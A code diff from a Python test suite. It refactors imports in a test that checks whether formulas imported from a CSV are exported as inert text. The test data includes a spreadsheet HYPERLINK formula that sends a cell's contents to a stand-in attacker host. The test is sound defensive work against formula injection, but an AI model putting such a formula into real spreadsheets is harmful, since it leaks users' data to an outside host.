@@ -243,7 +243,8 @@ def test_a_fair_sized_workbook_imports_whole(engine, event, tmp_path):
 def test_an_imported_formula_is_text_in_the_export(engine, event, tmp_path):
     from openpyxl import load_workbook
 
-    from store.export import workbook as export_workbook
+    from store.export import export_data
+    from views.export_workbook import workbook as export_workbook
 
     formula = '=HYPERLINK("http://evil.example/?c="&B2,"Open catalogue")'
     path = tmp_path / "people.csv"
@@ -252,7 +253,7 @@ def test_an_imported_formula_is_text_in_the_export(engine, event, tmp_path):
     with session_scope(engine) as session:
         import_participants(session, path)
     with session_scope(engine) as session:
-        book = load_workbook(io.BytesIO(export_workbook(session, "ko")))
+        book = load_workbook(io.BytesIO(export_workbook(export_data(session), "ko")))
     cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
     assert [c.coordinate for c in cells if c.data_type == "f"] == []
     assert formula in {c.value for c in cells}
